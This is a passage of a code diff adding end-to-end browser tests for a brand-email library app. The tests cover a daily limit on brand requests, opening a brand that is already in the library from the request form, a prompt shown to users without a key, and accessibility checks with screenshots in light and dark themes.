+      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^You have made today’s 50 brand requests\. You can ask again in (\d+ hours?)?( ?\d+ minutes?)?, after midnight UTC; your form is kept\./);
+      expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('Quiet Harbour Tea');
+      await checkAxeAsync(ui, 'brand requests, light');
+    } finally {
+      h.page.off('request', watch);
+      await setFaultsAsync({ rate: 0 });
+    }
+  });
+
+  it('opens the brand already in the library, and without a key says how to add one', async () => {
+    const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=1');
+    let ui = await openBrowseAsync('dark', 'key');
+    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
+    const form = ui.getByRole('form', { name: 'Ask for a brand' });
+    await form.getByLabel('Brand', { exact: true }).fill(top.data[0]!.name);
+    await form.getByLabel('Website').fill('example-of-a-known-brand.com');
+    await h.page.screenshot({ path: `${SHOTS}/library-request-form-dark.png` });
+    await form.getByRole('button', { name: 'Send request' }).click();
+    await ui.getByRole('button', { name: 'Open its page' }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(top.data[0]!.name);
+
+    ui = await openBrowseAsync('dark', 'anonymous');
+    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
+    expect(await textOf(ui.getByTestId('requests-need-key'))).toContain('needs your library key');
+  });
+});
+
+describe('Browse in both themes', () => {
+  for (const theme of ['light', 'dark'] as const) {
+    it(`search and detail are clean under axe in the ${theme} theme (screenshots)`, async () => {
+      const ui = await openBrowseAsync(theme, 'key');
+      await expect.poll(() => emailList(ui).locator('img').evaluateAll((images) => images.every((image) => (image as HTMLImageElement).complete)), { timeout: 10_000 }).toBe(true);
+      await checkAxeAsync(ui, `search, ${theme}`);
+      await h.page.screenshot({ path: `${SHOTS}/library-search-${theme}.png` });
+      await cards(ui).first().click();
+      await ui.getByRole('heading', { level: 2 }).waitFor({ timeout: 10_000 });
+      await checkAxeAsync(ui, `detail, ${theme}`);
+      await h.page.screenshot({ path: `${SHOTS}/library-detail-${theme}.png` });
+      await ui.getByRole('button', { name: 'HTML' }).click();
+      await ui.locator('iframe.email-html').waitFor();
+      await h.page.screenshot({ path: `${SHOTS}/library-detail-html-${theme}.png` });
+    });
+  }
+});
